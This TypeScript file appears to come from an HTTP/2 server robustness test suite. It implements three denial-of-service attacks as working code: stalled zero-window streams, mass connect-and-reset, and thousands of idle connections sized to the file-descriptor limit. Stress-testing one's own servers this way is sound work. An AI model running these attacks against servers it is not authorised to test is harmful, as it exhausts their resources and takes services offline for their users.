import { readFileSync } from "node:fs";
import { encodeFields, headers, PREFACE, SETTING, settings } from "../../support/clients/http2-frames.ts";
import { type Attack, inParallel, pause } from "../attack.ts";
import { openRawSession, untilEvent } from "../raw-session.ts";
import { requestOf } from "../requests.ts";

const STALLED = 200;
const STREAMS = 256;
const CLOSES = 50_000;
const CLOSES_IN_PARALLEL = 20;
const IDLE = 10_000;
const IDLE_IN_PARALLEL = 50;
/** Open files that the attacker needs in addition to its connections. */
const OWN_FILES = 500;

/** A window of 0 bytes, so that the server cannot send responses; 256 requests on each connection, then silence. */
export const zeroWindow: Attack = async (context) => {
  const block = encodeFields(requestOf("page").fields);
  let open = 0;
  await inParallel(STALLED, async () => {
    const session = await openRawSession(context, { settings: [[SETTING.initialWindowSize, 0]] });
    if (session === undefined) return;
    open += 1;
    session.socket.once("close", () => {
      open -= 1;
    });
    const requests = Array.from({ length: STREAMS }, () => headers(session.nextId(), block, { endStream: true }));
    await session.write(...requests);
    context.count("requests", STREAMS);
  });
  while (context.isGoing()) await pause(50);
  context.count("open at the end", open);
};

/** HTTP/2 connections that are closed right after opening. */
export const connectAndClose: Attack = async (context) => {
  const hello = Buffer.concat([PREFACE, settings()]);
  let made = 0;
  await inParallel(CLOSES_IN_PARALLEL, async () => {
    while (made < CLOSES && context.isGoing()) {
      made += 1;
      const session = await openRawSession(context, { isBare: true });
      if (session === undefined) continue;
      await session.write(hello);
      // Once the server has responded, its session exists.
      await untilEvent(session.socket, "data", 200);
      // Half of them end with FIN. With RST, no address stays in TIME_WAIT, so the ports suffice.
      if (made % 2 === 0) session.socket.resetAndDestroy();
      else session.socket.destroy();
    }
  });
};

/** 10,000 connections, or as many as the open file limit allows, that send nothing, or only the start of HTTP/2. */
export const idleConnections: Attack = async (context) => {
  const goal = Math.min(IDLE, openFilesLimit() - OWN_FILES);
  const hello = Buffer.concat([PREFACE, settings()]);
  let [made, open] = [0, 0];
  await inParallel(IDLE_IN_PARALLEL, async () => {
    while (made < goal && context.isGoing()) {
      made += 1;
      const session = await openRawSession(context, { isBare: true });
      if (session === undefined) continue;
      open += 1;
      session.socket.once("close", () => {
        open -= 1;
      });
      if (made % 2 === 0) session.socket.write(hello);
    }
  });
  while (context.isGoing()) await pause(50);
  context.count("open at the end", open);
};

/** The open file limit of this process. */
function openFilesLimit(): number {
  const [, soft] = /^Max open files +(\d+)/m.exec(readFileSync("/proc/self/limits", "utf8")) ?? [];
  return Number(soft ?? 1_024);
}
